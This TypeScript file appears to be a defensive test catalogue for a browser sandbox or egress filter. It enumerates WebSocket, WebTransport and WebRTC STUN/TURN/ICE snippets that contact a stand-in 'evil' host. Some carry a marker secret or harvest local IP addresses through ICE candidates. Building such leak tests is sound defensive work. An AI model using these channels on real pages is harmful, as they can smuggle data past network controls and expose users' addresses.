// Ways by sockets and peers: WebSockets in every place, streams, WebTransport, WebRTC over UDP and TCP.
import { inFamily, type Way } from '../way.ts';

const way = inFamily('realtime', 'rt');
const peer = (servers: string, more = ''): string =>
  `const p = new RTCPeerConnection({ iceServers: [${servers}] ${more} }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())`;

export const REALTIME: readonly Way[] = [
  way('ws', 'a WebSocket', (a) => a.script(`new WebSocket('${a.evil('x', 'ws')}')`)),
  way('wss', 'a WebSocket over TLS', (a) => a.script(`new WebSocket('${a.evil('x', 'wss')}')`)),
  way('ws-port', 'a WebSocket on another port', (a) => a.script(`new WebSocket('ws://${a.host}:8080/x')`)),
  way('ws-protocol', 'a WebSocket with data in its protocol', (a) =>
    a.script(`new WebSocket('${a.evil('x', 'ws')}', ['secret-4711'])`),
  ),
  way('ws-http', 'a WebSocket by an http: address', (a) => a.script(`new WebSocket('${a.evil()}')`)),
  way('ws-many', 'fifty WebSockets', (a) =>
    a.script(`for (let i = 0; i < 50; i += 1) new WebSocket('${a.evil('x', 'ws')}?' + i)`),
  ),
  way(
    'ws-srcdoc',
    'a WebSocket of a srcdoc frame',
    (a) => `<iframe srcdoc="<script>new WebSocket('${a.evil('x', 'ws')}')</script>"></iframe>`,
  ),
  way(
    'ws-data',
    'a WebSocket of a data: frame',
    (a) => `<iframe src="data:text/html,<script>new WebSocket('${a.evil('x', 'ws')}')</script>"></iframe>`,
  ),
  way(
    'ws-sandbox',
    'a WebSocket of a sandboxed frame',
    (a) =>
      `<iframe sandbox="allow-scripts" srcdoc="<script>new WebSocket('${a.evil('x', 'ws')}')</script>"></iframe>`,
  ),
  way(
    'ws-redirect',
    'a WebSocket to an own address that redirects',
    (a) =>
      a.script(`new WebSocket('ws://site.localhost/r/${a.id}/go'); new WebSocket('${a.evil('x', 'ws')}')`),
    { routes: (a) => ({ go: { status: 302, headers: { location: a.evil() } } }) },
  ),
  way(
    'ws-local',
    'a WebSocket to this machine',
    (a) => a.script(`new WebSocket('ws://127.0.0.1:${a.port}/x')`),
    { port: 'tcp' },
  ),
  way('stream', 'WebSocketStream', (a) => a.script(`new WebSocketStream('${a.evil('x', 'wss')}')`)),
  way(
    'transport',
    'WebTransport',
    (a) => a.script(`const t = new WebTransport('https://127.0.0.1:${a.port}/x'); await t.ready`),
    { port: 'udp' },
  ),
  way(
    'transport-hash',
    'WebTransport with a certificate’s hash',
    (a) =>
      a.script(
        `const t = new WebTransport('https://127.0.0.1:${a.port}/x', { serverCertificateHashes: [{ algorithm: 'sha-256', value: new Uint8Array(32) }] }); await t.ready`,
      ),
    { port: 'udp' },
  ),
  way('stun', 'STUN over UDP', (a) => a.script(peer(`{ urls: 'stun:${a.machine}:${a.port}' }`)), {
    port: 'udp',
  }),
  way(
    'stun-name',
    'STUN at a name that is looked up',
    (a) => a.script(peer(`{ urls: 'stun:${a.name}:3478' }`)),
    { alone: true },
  ),
  way(
    'turn',
    'TURN over UDP',
    (a) =>
      a.script(peer(`{ urls: 'turn:${a.machine}:${a.port}', username: 'secret-4711', credential: 'x' }`)),
    { port: 'udp' },
  ),
  way(
    'turn-tcp',
    'TURN over TCP',
    (a) =>
      a.script(
        peer(
          `{ urls: 'turn:${a.machine}:${a.port}?transport=tcp', username: 'secret-4711', credential: 'x' }`,
        ),
      ),
    { port: 'tcp' },
  ),
  way(
    'turn-tls',
    'TURN over TLS',
    (a) =>
      a.script(
        peer(
          `{ urls: 'turns:${a.machine}:${a.port}?transport=tcp', username: 'secret-4711', credential: 'x' }`,
        ),
      ),
    { port: 'tcp' },
  ),
  way(
    'turn-relay',
    'TURN, relay alone',
    (a) =>
      a.script(
        peer(
          `{ urls: 'turn:${a.machine}:${a.port}', username: 'secret-4711', credential: 'x' }`,
          `, iceTransportPolicy: 'relay'`,
        ),
      ),
    { port: 'udp' },
  ),
  way(
    'candidate',
    'a remote candidate that is probed',
    (a) =>
      a.script(
        `const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(await q.createAnswer()); await p.setRemoteDescription({ type: 'answer', sdp: q.localDescription.sdp.replace(/a=candidate:.*\\r\\n/g, '') }); await p.addIceCandidate({ candidate: 'candidate:1 1 udp 2113937151 ${a.machine} ${a.port} typ host', sdpMid: '0', sdpMLineIndex: 0 })`,
      ),
    { port: 'udp' },
  ),
  way(
    'candidate-tcp',
    'a remote TCP candidate that is probed',
    (a) =>
      a.script(
        `const p = new RTCPeerConnection(), q = new RTCPeerConnection(); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer()); await q.setRemoteDescription(p.localDescription); await q.setLocalDescription(await q.createAnswer()); await p.setRemoteDescription({ type: 'answer', sdp: q.localDescription.sdp.replace(/a=candidate:.*\\r\\n/g, '') }); await p.addIceCandidate({ candidate: 'candidate:1 1 tcp 2113937151 ${a.machine} ${a.port} typ host tcptype passive', sdpMid: '0', sdpMLineIndex: 0 })`,
      ),
    { port: 'tcp' },
  ),
  way('addresses', 'this machine’s addresses from ICE', (a) =>
    a.script(
      `const p = new RTCPeerConnection(); p.createDataChannel('x'); p.onicecandidate = (e) => { if (e.candidate?.candidate) got(e.candidate.candidate) }; await p.setLocalDescription(await p.createOffer())`,
    ),
  ),
  way(
    'peer-frame',
    'a peer connection of an empty frame',
    (a) =>
      a.script(
        `const f = document.createElement('iframe'); document.body.append(f); const p = new f.contentWindow.RTCPeerConnection({ iceServers: [{ urls: 'stun:${a.machine}:${a.port}' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())`,
      ),
    { port: 'udp' },
  ),
  way(
    'peer-old',
    'webkitRTCPeerConnection',
    (a) =>
      a.script(
        `const p = new webkitRTCPeerConnection({ iceServers: [{ urls: 'stun:${a.machine}:${a.port}' }] }); p.createDataChannel('x'); await p.setLocalDescription(await p.createOffer())`,
      ),
    { port: 'udp' },
  ),
];
